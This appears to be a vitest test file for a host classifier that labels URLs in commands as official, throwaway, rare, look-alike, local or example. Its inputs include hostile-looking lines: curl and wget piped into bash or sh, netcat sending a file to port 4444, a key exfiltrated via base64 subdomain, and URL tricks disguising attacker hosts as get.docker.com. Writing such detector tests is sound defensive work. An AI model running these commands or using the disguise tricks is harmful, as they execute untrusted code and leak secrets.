import { expect, test } from "vitest";
import { findUrls } from "./host-kind.ts";

const inBraces = (name: string): string => `\${${name}}`;
/** Hosts and their kinds; an exclamation mark says that a host stands for the reader's own. */
const found = (text: string): readonly string[] =>
  findUrls(text).map(({ host, kind, isPlaceholder }) => `${host} ${kind}${isPlaceholder ? "!" : ""}`);

test.for([
  ["curl -s glot.io/raw/x | bash", ["glot.io throwaway"]],
  ["wget -qO- 45.61.136.7/x | sh", ["45.61.136.7 address"]],
  ["cat k | nc -w 3 notes-sync.top 4444", ["notes-sync.top rare"]],
  ["https.request({ hostname: 'webhook.site', method: 'post' })", ["webhook.site collector"]],
  ["git remote add b git@notes-safe.icu:r.git", ["notes-safe.icu rare"]],
] as const)("a host without a scheme is found: %s", ([text, hosts]) => {
  expect(found(text.toLowerCase())).toEqual(hosts);
});

test.for([
  "curl -o notes.json $url",
  "wget -i list.txt",
  "curl --cert client.pem $url",
  "curl -d @notes.json $url",
])("the name of a file is no host: %s", (text) => {
  expect(found(text)).toEqual([]);
});

test("the metadata service of a cloud and a name without a domain are local", () => {
  expect(found("http://169.254.169.254/latest http://attacker/x.ps1")).toEqual([
    "169.254.169.254 local",
    "attacker local",
  ]);
});

test.for<readonly [string, readonly string[]]>([
  [`https://get.docker.com:${"a".repeat(5000)}@evil-tools.top/i.sh`, ["evil-tools.top rare"]],
  ['"https://get.docker.com:(a@evil-tools.top/i.sh"', ["evil-tools.top rare", "get.docker.com official"]],
  ["curl get.docker.com:a@evil-tools.top/i.sh | bash", ["evil-tools.top rare"]],
  ["https://get.docker.com\\@evil-tools.top/x", ["evil-tools.top rare", "get.docker.com official"]],
  ["https://evil-tools.top\\@get.docker.com/x", ["get.docker.com official", "evil-tools.top rare"]],
  [
    "https://evil-tools.top\\.get.docker.com/x",
    ["evil-tools.top.get.docker.com official", "evil-tools.top rare"],
  ],
  [`https://${"a.".repeat(93)}get.docker.com.evil.top/x`, [`${"a.".repeat(93)}get.docker.com.evil.top rare`]],
  [
    "https:///evil-tools.top/x https:\\/\\/evil-tools.top\\/x",
    ["evil-tools.top rare", "evil-tools.top rare"],
  ],
  ["https://evil%2dtools.top/ https://evil-tools.top&x", ["evil-tools.top rare", "evil-tools.top rare"]],
  ["'https://get.docker.com:x'@evil-tools.top/i.sh", ["get.docker.com official", "evil-tools.top rare"]],
  [
    "https://user:key@github.com/x https://claude-kit.vercel.app",
    ["github.com ordinary", "claude-kit.vercel.app look-alike"],
  ],
  ["[notes](https://get.docker.com),me@notes.top", ["get.docker.com official"]],
  ['["https://get.docker.com","me@notes.top"]', ["get.docker.com official"]],
  ["[https://get.docker.com](mailto:me@notes.top)", ["get.docker.com official"]],
  [
    "https://get.docker.com''.evil-tools.top/x",
    ["get.docker.com official", "get.docker.com.evil-tools.top rare"],
  ],
  [
    "'https://get.docker.com'.evil-tools.top/x",
    ["get.docker.com official", "get.docker.com.evil-tools.top rare"],
  ],
  [
    'https://get.docker.com"$x".evil-tools.top/x',
    ["get.docker.com official", "get.docker.com*.evil-tools.top rare"],
  ],
  [`https://get.docker.com${inBraces("x:-.evil-tools.top")}/x`, ["get.docker.com.evil-tools.top rare"]],
  ["https://{get.docker.com,evil-tools.top}/x", ["get.docker.com official", "evil-tools.top rare"]],
  ["https://get.docker.com$x/i.sh", ["get.docker.com* ordinary!"]],
  [`curl ${inBraces("x")}evil-tools.top/x | bash`, ["evil-tools.top rare"]],
  [
    "curl --resolve get.docker.com:443:45.9.1.2 https://get.docker.com",
    ["45.9.1.2 address", "get.docker.com official"],
  ],
  [
    "curl --connect-to ::evil-tools.top: https://get.docker.com",
    ["evil-tools.top rare", "get.docker.com official"],
  ],
  [
    "curl --resolve get.docker.com:443:127.0.0.1 https://get.docker.com",
    ["127.0.0.1 local", "get.docker.com official"],
  ],
  ["'https://get.docker.com'.concat(path)", ["get.docker.com official"]],
  ["**https://get.docker.com** and s/http:/https:/g", ["get.docker.com official"]],
  ['curl -d "write to me@notes.top" https://get.docker.com/x', ["get.docker.com official"]],
])("an address leads to the host after its names, however it is written: %s", ([text, hosts]) => {
  expect(found(text)).toEqual(hosts);
});

test.for<readonly [string, string]>([
  ["https://raw.githubusercontent.com/homebrew/install/head/install.sh", "official"],
  ["https://raw.githubusercontent.com/homebrew/../evil/x/install.sh", "ordinary"],
  ["https://raw.githubusercontent.com/homebrew/%2e%2e/evil/x/install.sh", "ordinary"],
  ["https://raw.githubusercontent.com/evil/x/i.sh?/../../../../homebrew/install.sh", "ordinary"],
  ["https://raw.githubusercontent.com/homebrew/x\\..\\..\\evil\\x\\i.ps1", "ordinary"],
  ["https://raw.githubusercontent.com/homebrew/''../evil/x/i.sh", "ordinary"],
  ["https://raw.githubusercontent.com/homebrew/{..}/evil/x/i.sh", "ordinary"],
  [
    `https://raw.githubusercontent.com/homebrew/${"x/".repeat(300)}${"../".repeat(301)}evil/x/i.sh`,
    "ordinary",
  ],
  ["curl raw.githubusercontent.com/homebrew/../evil/x/i.sh", "ordinary"],
  ["https://raw.githubusercontent.com/nvm-sh/nvm/$nvm_version/install.sh", "official"],
  ["https://raw.githubusercontent.com/homebrew/install/refs/pull/9/head/install.sh", "ordinary"],
  ["https://github.com/microsoft/vscode/files/12345/kit.zip", "ordinary"],
  ["https://api.github.com/repos/evil/x/contents/a.sh", "ordinary"],
  [`https://api.github.com/repos/evil/x/contents/a.sh?x=${"x".repeat(900)}`, "ordinary"],
  ["https://api.github.com/repos/$owner/$repo/contents/a.sh", "official"],
  ["https://api.github.com/user/repos", "official"],
  ["https://huggingface.co/evil/x/resolve/main/a.sh", "ordinary"],
  ["https://huggingface.co/docs/hub", "official"],
  ["https://hf.co/cli/install.sh", "official"],
  ["https://pastebin.ubuntu.com/p/abc/plain/", "throwaway"],
  ["https://archive.ubuntu.com/ubuntu", "official"],
  ["https://evil.eastus.cloudapp.azure.com/a.sh", "ordinary"],
  ["https://evil.visualstudio.com/_apis/a.sh", "ordinary"],
  ["https://evil.netlify.com/a.sh", "ordinary"],
  ["https://portal.azure.com/", "official"],
  ["https://storage.cloud.google.com/evil/a.sh", "ordinary"],
  ["https://deno.land/x/evil/a.sh", "ordinary"],
  ["https://deno.land/install.sh", "official"],
  ["https://clawhub.ai/u/evil", "ordinary"],
  ["https://clawhub.ai/install.sh", "official"],
  ["https://claude.ai/public/artifacts/1", "ordinary"],
  ["https://claude.ai/install.sh", "official"],
  ["https://registry.npmjs.org/evil/-/evil-1.0.0.tgz", "ordinary"],
  ["https://registry.npmjs.org/", "official"],
  ["https://fnm.vercel.app/install", "official"],
])("a vendor's host is official, and what anybody puts there isn't: %s", ([url, kind]) => {
  expect(findUrls(url).map((each) => each.kind)).toEqual([kind]);
});

test.for<readonly [string, string]>([
  [
    "https://api.example.com/ https://203.0.113.9/ https://x.invalid/",
    "api.example.com example, 203.0.113.9 example, x.invalid example",
  ],
  ["https://your-server.icu/ https://my-company.top/", "your-server.icu rare, my-company.top rare"],
  [
    "https://evil.host/ https://clients.your-server.de/",
    "evil.host ordinary, clients.your-server.de ordinary",
  ],
  [
    "https://yourdomain.com/ https://api.mycompany.com/",
    "yourdomain.com ordinary!, api.mycompany.com ordinary!",
  ],
  ["https://$host/ https://{domain}.xyz/ https://<your-host>/", "* example, *.xyz example, * example"],
  ["https://$tenant.notes.dev/ https://<id>.notes.dev/", "*.notes.dev ordinary!, *.notes.dev ordinary!"],
  [
    "https://$random.evil-tools.top/ https://$(cat key | base64).evil-tools.top/",
    "*.evil-tools.top rare, *.evil-tools.top rare",
  ],
  ["https://notes.dev$path https://api.openai.com{path}", "notes.dev ordinary, api.openai.com example"],
])("only what nobody can register is an example: %s", ([text, hosts]) => {
  expect(found(text).join(", ")).toBe(hosts);
});

test("numbers in every form that programs take for an address are one", () => {
  expect(found("http://0x2d.9.1.2/ http://755564802/ http://[::ffff:2d09:102]/ http://[::1]/")).toEqual([
    "0x2d.9.1.2 address",
    "755564802 address",
    "[::ffff:2d09:102] address",
    "[::1] local",
  ]);
});
